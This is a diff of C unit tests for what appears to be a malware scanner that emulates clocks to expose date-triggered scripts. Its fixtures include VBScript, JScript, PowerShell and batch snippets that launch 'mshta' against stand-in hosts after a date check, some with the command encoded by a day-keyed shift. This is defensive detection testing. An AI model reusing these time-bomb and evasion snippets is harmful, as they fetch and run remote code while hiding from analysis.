@@ -228,6 +228,96 @@ static void a_day_in_a_name_is_no_key(void **state)
     sk_report_free(key);
 }
 
+/* Programs that wait for a date, or end at one, in every language: on the other side they act. The clock shows 2021-01-26. */
+static void a_date_opens_the_gate(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *name, *text;
+    } gates[] = {
+        {"date.vbs", "If Date > #2021-12-31# Then CreateObject(\"WScript.Shell\").Run \"mshta http://date.example/a\" Else CreateObject(\"WScript.Shell\").Run \"notepad.exe\"\r\n"},
+        {"serial.vbs", "Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"notepad.exe\"\r\nIf Now < DateSerial(2020, 6, 1) Then sh.Run \"mshta http://date.example/a\"\r\n"},
+        {"year.vbs", "Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"notepad.exe\"\r\nIf Year(Now) <> 2021 Then sh.Run \"mshta http://date.example/a\"\r\n"},
+        {"days.vbs", "Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"notepad.exe\"\r\nIf DateDiff(\"d\", #2021-02-01#, Date) > 7 Then sh.Run \"mshta http://date.example/a\"\r\n"},
+        {"date.js", "var sh = new ActiveXObject('WScript.Shell');\nif (new Date() > new Date(2021, 5, 1)) sh.Run('mshta http://date.example/a');\n"},
+        {"time.js", "var sh = new ActiveXObject('WScript.Shell');\nif (new Date().getTime() / 1000 > 1622505600) sh.Run('mshta http://date.example/a');\n"},
+        {"year.js", "var sh = new ActiveXObject('WScript.Shell');\nif (new Date().getFullYear() < 2021) sh.Run('mshta http://date.example/a');\n"},
+        {"date.ps1", "if ((Get-Date) -gt (Get-Date '2021-06-01')) { Start-Process mshta http://date.example/a }\n"},
+        {"text.ps1", "if ((Get-Date) -gt '06/01/2021') { Start-Process mshta http://date.example/a }\n"},
+        {"cast.ps1", "if ([DateTime]::Now -lt [datetime]'2020-06-01') { Start-Process mshta http://date.example/a }\n"},
+        {"make.ps1", "if ((New-Object DateTime 2021,6,1) -lt [DateTime]::Now) { Start-Process mshta http://date.example/a }\n"},
+        {"format.ps1", "if ([int](Get-Date -Format yyyyMMdd) -ge 20210601) { Start-Process mshta http://date.example/a }\n"},
+        {"part.ps1", "if ((Get-Date -Year 2021 -Month 6 -Day 1) -lt (Get-Date)) { Start-Process mshta http://date.example/a }\n"},
+        {"year.ps1", "if ((Get-Date).Year -ne 2021 -and $true) { Start-Process mshta http://date.example/a }\n"},
+        {"date.bat", "@echo off\r\nif %date:~10,4%%date:~4,2%%date:~7,2% GTR 20210601 mshta http://date.example/a\r\n"},
+        {"year.bat", "@echo off\r\nset y=%date:~-4%\r\nif not \"%y%\"==\"2021\" mshta http://date.example/a\r\n"},
+    };
+    for (size_t i = 0; i < SK_COUNT(gates); i++) {
+        sk_report *r = scan_text(gates[i].text, gates[i].name);
+        if (count_runs(r, "mshta http://date.example/a") != 1) fail_msg("%s: %u runs", gates[i].name, count_runs(r, "mshta http://date.example/a"));
+        if (!has_fact(r, SK_FACT_EMULATE_CLOCK, "2022-03-02 09:00") && !has_fact(r, SK_FACT_EMULATE_CLOCK, "2019-12-23 09:00")) fail_msg("%s", gates[i].name);
+        sk_report_free(r);
+    }
+}
+
+/* Waiting, measuring and comparing two times of the machine itself is no gate. */
+static void a_time_that_is_measured_is_no_date(void **state)
+{
+    (void)state;
+    sk_report *plain = scan_text("CreateObject(\"WScript.Shell\").Run \"notepad.exe\"\r\nt = Now\r\nx = 1\r\nFor i = 1 To 500\r\nx = x + 1\r\nNext\r\n", "a.vbs");
+    sk_report *wait = scan_text("CreateObject(\"WScript.Shell\").Run \"notepad.exe\"\r\nt = Now\r\nIf Now > DateAdd(\"s\", 5, t) Or Hour(Now) > 8 Then x = 1\r\nFor i = 1 To 500\r\nx = x + 1\r\nNext\r\n", "a.vbs");
+    assert_true(sk_report_emulated_steps(wait) < sk_report_emulated_steps(plain) + 100);
+    sk_report_free(plain);
+    sk_report_free(wait);
+}
+
+/* Text whose key is made of the day, in the other languages. */
+static void days_are_keys_in_scripts(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *name, *before, *turn, *after;
+        int is; /* on the day, after Tuesday 2021-01-26, that it is meant for */
+    } keys[] = {
+        {"a.js", "var k = new Date().getDate(), s = '', a = [", "], i; for (i = 0; i < a.length; i++) s += String.fromCharCode(a[i] - 3 * k);", "new ActiveXObject('WScript.Shell').Run(s);", 9},
+        {"a.js", "var d = new Date(), k = d.getDay(), s = '', a = [", "], i; for (i in a) s += String.fromCharCode(a[i] - 3 * k);", "new ActiveXObject('WScript.Shell').Run(s);", 5},
+        {"a.js", "var k = new Date().getMonth(), s = '', a = [", "], i; for (i in a) s += String.fromCharCode(a[i] - 3 * k);", "new ActiveXObject('WScript.Shell').Run(s);", 7},
+        {"a.vbs", "k = Weekday(Date)\r\nFor Each c In Array(", ")\r\ns = s & Chr(c - 3 * k)\r\nNext\r\n", "CreateObject(\"WScript.Shell\").Run s\r\n", 6},
+        {"a.ps1", "$k = (Get-Date).Day; $s = ''; foreach ($c in @(", ")) { $s += [char]($c - 3 * $k) }\n", "Start-Process cmd \"/c $s\"\n", 14},
+        {"a.ps1", "$k = [int][DateTime]::Now.DayOfWeek; $s = ''; foreach ($c in @(", ")) { $s += [char]($c - 3 * $k) }\n", "Start-Process cmd \"/c $s\"\n", 5},
+        {"a.ps1", "$k = [DateTime]::Now.Month; $s = -join (@(", ") | % { [char]($_ - 3 * $k) })\n", "Start-Process cmd \"/c $s\"\n", 7},
+        {"a.ps1", "$k = [int](Get-Date -Format dd); $s = -join (@(", ") | % { [char]($_ - 3 * $k) })\n", "Start-Process cmd \"/c $s\"\n", 3},
+        {"a.ps1", "$k = [int](Get-Date).ToString('dd'); $b = [byte[]](@(", ") | % { $_ - 3 * $k })\n", "$s = [Text.Encoding]::ASCII.GetString($b); Start-Process cmd \"/c $s\"\n", 20},
+        {"a.ps1", "$k = [int](Get-Date -UFormat %d); $s = -join (@(", ") | % { [char]($_ - 3 * $k) })\n", "Start-Process cmd \"/c $s\"\n", 11},
+    };
+    static const char plain[] = "mshta http://day.example/";
+    for (size_t i = 0; i < SK_COUNT(keys); i++) {
+        char text[1200], *p = text;
+        p += sprintf(p, "%s", keys[i].before);
+        for (size_t n = 0; plain[n]; n++) p += sprintf(p, "%s%d", n ? ", " : "", plain[n] + 3 * keys[i].is);
+        sprintf(p, "%s%s", keys[i].turn, keys[i].after);
+        sk_report *r = scan_text(text, keys[i].name);
+        if (count_runs(r, plain) < 1) fail_msg("%zu %s", i, keys[i].before);
+        sk_report_free(r);
+    }
+}
+
+/* cmd takes letters by the day, or goes on only on one. */
+static void cmd_asks_the_day(void **state)
+{
+    (void)state;
+    static const char *const texts[] = {
+        "@echo off\r\nif not \"%date:~0,3%\"==\"Fri\" exit\r\nmshta http://day.example/\r\n",
+        "@echo off\r\nset /a d=1%date:~7,2%-100\r\nif %d% equ 3 mshta http://day.example/\r\n",
+        "@echo off\r\nsetlocal enabledelayedexpansion\r\nset d=%date:~7,2%\r\nset a=zzzmshta http://day.example/\r\n!a:~%d%,25!\r\n",
+    };
+    for (size_t i = 0; i < SK_COUNT(texts); i++) {
+        sk_report *r = scan_text(texts[i], "a.bat");
+        if (count_runs(r, "mshta http://day.example/") != 1) fail_msg("%s", texts[i]);
+        sk_report_free(r);
+    }
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -235,7 +325,8 @@ int main(void)
         cmocka_unit_test(the_day_is_a_key),              cmocka_unit_test(the_same_elsewhere_is_no_news),
         cmocka_unit_test(a_bare_machine_opens_the_gate), cmocka_unit_test(an_office_passes_the_checks),
         cmocka_unit_test(a_macro_asks_the_machine),      cmocka_unit_test(days_are_keys_in_macros),
-        cmocka_unit_test(a_day_in_a_name_is_no_key),
+        cmocka_unit_test(a_day_in_a_name_is_no_key),   cmocka_unit_test(a_date_opens_the_gate),
+        cmocka_unit_test(a_time_that_is_measured_is_no_date), cmocka_unit_test(days_are_keys_in_scripts), cmocka_unit_test(cmd_asks_the_day),
         cmocka_unit_test(what_an_analyst_sets_is_not_varied), cmocka_unit_test(endless_runs_share_one_budget),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
